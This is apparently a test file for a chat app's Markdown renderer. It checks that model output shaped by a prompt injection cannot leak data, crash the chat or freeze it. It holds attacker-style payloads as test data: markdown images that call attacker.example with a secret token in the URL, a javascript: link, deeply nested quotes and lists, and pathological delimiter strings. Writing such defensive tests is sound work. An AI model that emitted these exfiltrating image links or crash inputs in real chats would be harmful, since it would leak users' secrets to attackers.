/**
 * Model text as an attacker writes it (a prompt injection reached the model): it cannot exfiltrate through images or
 * links, crash the chat, or freeze it. Each case here failed before the image policy, the bounded lexer, the depth
 * limit and the per-message error boundary.
 */
import { fireEvent, render, screen } from '@testing-library/react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { BlockCache } from '../../../src/components/markdown/block-cache.js';
import { Markdown } from '../../../src/components/markdown/Markdown.js';
import { safeLex } from '../../../src/components/markdown/safe-lex.js';
import { chatScenarioContent } from '../../../src/msw/content.js';

afterEach(() => vi.restoreAllMocks());

const html = (text: string, options: { streaming?: boolean; allowed?: readonly string[] } = {}) =>
  renderToStaticMarkup(
    <Markdown streaming={options.streaming} allowedImageOrigins={options.allowed}>
      {text}
    </Markdown>,
  );

describe('exfiltration through images', () => {
  const secret = 'SECRET_TOKEN_123';
  it.each([
    ['inline', `![status](https://attacker.example/p.png?d=${secret})`],
    ['reference-style', `![status][r]\n\n[r]: https://attacker.example/p.png?d=${secret}`],
    ['in a table', `| a |\n|---|\n| ![status](https://attacker.example/p.png?d=${secret}) |`],
    ['in a link', `[![status](https://attacker.example/p.png?d=${secret})](https://ok.example)`],
  ])('an image %s from an origin not allowed loads nothing; it is a chip with its alt text and host', (_, text) => {
    const markup = html(text);
    expect(markup).not.toContain('<img');
    expect(markup).toContain('data-slot="blocked-image"');
    expect(markup).toContain('attacker.example');
    // While streaming, a reference-style image waits for its definition as text: it loads nothing either.
    expect(html(text, { streaming: true })).not.toContain('<img');
  });

  it('an allowed origin loads; a chip loads its image only when the user asks', () => {
    expect(html('![cat](https://img.example/cat.png)', { allowed: ['https://img.example'] })).toContain(
      '<img src="https://img.example/cat.png" alt="cat"',
    );
    render(<Markdown>{'![chart](https://attacker.example/c.png)'}</Markdown>);
    expect(document.querySelector('img')).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: 'Show image: chart attacker.example' }));
    expect(document.querySelector('img')).toHaveAttribute('src', 'https://attacker.example/c.png');
  });

  it('links go to http(s) only, and say where they really go', () => {
    const markup = html(
      '[home](/admin/delete) [mail](mailto:a@b.example) [run](javascript:alert(1)) [docs](https://docs.example/x)',
    );
    expect(markup.match(/href="[^"]*"/g)).toEqual(['href="https://docs.example/x"']);
    expect(markup).toContain('data-slot="link-host"');
    expect(markup).toContain('(docs.example)');
  });
});

describe('crash', () => {
  it.each([
    ['20,000 nested quotes', '>'.repeat(20_000)],
    ['3,000 nested quotes with spaces', '> '.repeat(3_000) + 'deep'],
    ['1,000 nested list items', Array.from({ length: 1_000 }, (_, i) => `${'  '.repeat(i)}- a`).join('\n')],
    ['quotes inside list items', Array.from({ length: 2_000 }, () => '- >').join(' ') + ' x'],
  ])('%s are shown as written, finished and streaming', (_, text) => {
    for (const streaming of [false, true]) {
      const shown = document.createElement('div');
      shown.innerHTML = html(text, { streaming });
      expect(shown.textContent).toBe(text);
      expect(shown.querySelector('blockquote, ul, ol')).toBeNull();
    }
  });

  it('a message whose formatting throws shows its text as written, with a quiet notice; the rest stays', () => {
    vi.spyOn(console, 'error').mockImplementation(() => {});
    vi.spyOn(BlockCache.prototype, 'update').mockReturnValue({
      stable: [],
      links: {},
      live: [{ type: 'table', raw: 'x', header: null } as never],
    });
    render(
      <div>
        <Markdown>{'The **answer** as written'}</Markdown>
        <p>still here</p>
      </div>,
    );
    expect(screen.getByText('The **answer** as written')).toBeInTheDocument();
    expect(screen.getByText('Shown as plain text: this answer could not be formatted.')).toBeInTheDocument();
    expect(screen.getByText('still here')).toBeInTheDocument();
  });

  it('where no boundary catches (server rendering), a parser failure still renders the text', () => {
    vi.spyOn(console, 'error').mockImplementation(() => {});
    vi.spyOn(BlockCache.prototype, 'update').mockImplementation(() => {
      throw new RangeError('Maximum call stack size exceeded');
    });
    expect(html('# Title')).toContain('# Title');
  });
});

/** Median wall time of `runs` renders, in ms. */
function median(render: () => void, runs = 3): number {
  const times = Array.from({ length: runs }, () => {
    const start = performance.now();
    render();
    return performance.now() - start;
  });
  return times.sort((a, b) => a - b)[Math.floor(runs / 2)] as number;
}

/**
 * The median ratio of `subject`'s wall time to `baseline`'s over `runs` pairs, each pair run back to back: a burst of
 * load from a parallel test slows both sides of a pair, not one side of the whole comparison.
 */
function medianRatio(subject: () => void, baseline: () => void, runs = 5): number {
  const ratios = Array.from({ length: runs }, () => {
    let start = performance.now();
    baseline();
    const base = performance.now() - start;
    start = performance.now();
    subject();
    return (performance.now() - start) / base;
  });
  return ratios.sort((a, b) => a - b)[Math.floor(runs / 2)] as number;
}

/** A realistic answer of about `bytes` (headings, lists, a table, code): the baseline of the same run. */
const realistic = (bytes: number) =>
  chatScenarioContent.markdown.repeat(Math.ceil(bytes / chatScenarioContent.markdown.length)).slice(0, bytes);

describe('bounded lexing of short text', () => {
  // Short text takes a quick path past the per-block count; the deep lines it must still catch.
  it.each([
    ['20 nested quotes', `${'>'.repeat(20)} deep`],
    ['17 list levels on one line', `${'- '.repeat(17)}x`],
    ['17 tabs of indentation', `${'\t'.repeat(17)}- x`],
    ['70 spaces of indentation', `${' '.repeat(70)}x`],
  ])('%s are shown as written', (_, text) => {
    expect(safeLex(text).map((token) => token.type)).toEqual(['plain-block']);
  });

  it('16 nested quotes, the most a reader can follow, stay quotes', () => {
    expect(safeLex(`${'> '.repeat(16)}x`)[0]?.type).toBe('blockquote');
  });
});

// Each case renders megabytes several times and compares medians within the run: the bound is that ratio, not the
// wall time, which two busy cores can stretch past the default 5 s.
describe('freeze', { timeout: 60_000 }, () => {
  // Measured before: 1.2 s, 0.74 s, 0.9 s, 0.4 s, 0.47 s, and 7.8 s for the streaming `[` run (issue 17); the `!`
  // runs 0.45 s and 0.9 s (lexing alone).
  it.each([
    ['400 nested list levels', Array.from({ length: 400 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n'), false],
    ['300 nested ordered lists', Array.from({ length: 300 }, (_, i) => `${'   '.repeat(i)}1. item`).join('\n'), false],
    ['*a × 20,000', '*a'.repeat(20_000), false],
    ['**a × 10,000', '**a'.repeat(10_000), false],
    ['`a × 50,000', '`a'.repeat(50_000), false],
    ['!a × 20,000', '!a'.repeat(20_000), false],
    ['! × 40,000 while streaming', '!'.repeat(40_000), true],
    ['[ × 100,000 while streaming', '['.repeat(100_000), true],
    // Math: every search for a closing delimiter stops at the next opener, and a block of formulas is bounded.
    ['$a × 20,000 (no closer)', '$a '.repeat(20_000), false],
    ['\\( × 50,000 (no closer)', '\\('.repeat(50_000), false],
    ['$x$ × 30,000', '$x$'.repeat(30_000), false],
    ['$$ lines × 30,000 while streaming', '$$ a\n'.repeat(30_000), true],
  ])('%s costs no more than a realistic answer of its size', (_, text, streaming) => {
    const baseline = realistic(text.length);
    // Warm both paths up once, so the first measurement does not pay for compilation.
    html(baseline, { streaming });
    html(text, { streaming });
    const normal = median(() => html(baseline, { streaming }));
    const hostile = median(() => html(text, { streaming }));
    expect(hostile, `${hostile.toFixed(1)} ms against ${normal.toFixed(1)} ms for a realistic answer`).toBeLessThan(
      Math.max(normal, 25),
    );
  });

  it('paragraphs ending in an unclosed $$ line cost about what the same paragraphs without dollars do', () => {
    // Many short paragraphs cost more than a realistic answer whatever they hold; the math must add little to that.
    const plain = 'p\nqq a\n\n'.repeat(5_000);
    const dollars = 'p\n$$ a\n\n'.repeat(5_000);
    html(plain);
    html(dollars);
    const ratio = medianRatio(
      () => html(dollars),
      () => html(plain),
    );
    expect(ratio, `${ratio.toFixed(2)}× the time without dollars`).toBeLessThan(2);
  });
});
